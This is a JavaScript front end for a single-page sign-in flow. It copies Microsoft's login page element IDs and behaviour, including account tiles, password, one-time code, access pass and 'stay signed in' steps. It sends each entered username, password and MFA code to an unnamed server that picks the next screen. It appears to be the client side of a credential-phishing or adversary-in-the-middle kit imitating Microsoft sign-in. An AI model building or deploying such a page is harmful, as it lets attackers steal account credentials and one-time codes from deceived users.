"use strict";
// One page that swaps its content without a navigation, as Microsoft's does. Every step is decided by the server.

const page = document.body.dataset;
const view = document.getElementById("view");
const form = document.forms.f1;
let shown = "";
let busy = false;

function show(next) {
  if (next.redirect) {
    location.assign(next.redirect);
    return;
  }
  shown = next.view;
  view.replaceChildren(document.getElementById("view-" + next.view).content.cloneNode(true));
  const name = view.querySelector("#displayName");
  if (name) name.textContent = next.displayName;
  const hiddenName = view.querySelector("#i0116.moveOffScreen");
  if (hiddenName) hiddenName.value = next.displayName;
  const visibleName = view.querySelector("#i0116:not(.moveOffScreen)");
  if (visibleName) visibleName.value = next.displayName || "";
  const toPass = view.querySelector("#switchToPass");
  if (toPass) toPass.hidden = !next.hasPass;
  if (next.error) {
    const place = view.querySelector("[role=alert]");
    place.textContent = next.error;
    place.hidden = false;
  }
  view.querySelector("input:not(.moveOffScreen), .tile [role=button]")?.focus();
}

async function step(fields) {
  if (busy) return;
  busy = true;
  try {
    const answer = await fetch(page.step, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ flow: page.flow, ...fields }),
    });
    show(await answer.json());
  } catch {
    show({ view: "blocked", displayName: "", error: "The sign-in host cannot be reached. Reload the page." });
  } finally {
    busy = false;
  }
}

const value = (selector) => view.querySelector(selector)?.value ?? "";

const submits = {
  username: () => step({ action: "username", username: value("#i0116") }),
  password: () => step({ action: "password", secret: value("#i0118") }),
  pass: () => step({ action: "pass", secret: value("input[name=accesspass]") }),
  code: () => step({ action: "code", secret: value("input[name=otc]") }),
  kmsi: () => step({ action: "kmsi", stay: true }),
};

form.addEventListener("submit", (event) => {
  event.preventDefault();
  submits[shown]?.();
});

function pick(tile) {
  if (tile.id === "otherTile") show({ view: "username", displayName: "" });
  else step({ action: "username", username: tile.dataset.testId });
}

view.addEventListener("keydown", (event) => {
  if (event.key === "Enter" && event.target.closest(".tile")) pick(event.target);
});

view.addEventListener("click", (event) => {
  const tile = event.target.closest(".tile [role=button]");
  if (tile) return pick(tile);
  switch (event.target.id) {
    case "idBtn_Back":
      if (shown === "kmsi") step({ action: "kmsi", stay: false });
      else show({ view: "username", displayName: "" });
      break;
    case "switchToPass":
      step({ action: "switch", to: "pass" });
      break;
    case "switchToPassword":
      step({ action: "switch", to: "password" });
      break;
  }
});

if (page.first === "picker") show({ view: "picker", displayName: "" });
else if (page.hint) step({ action: "username", username: page.hint });
else show({ view: "username", displayName: "" });
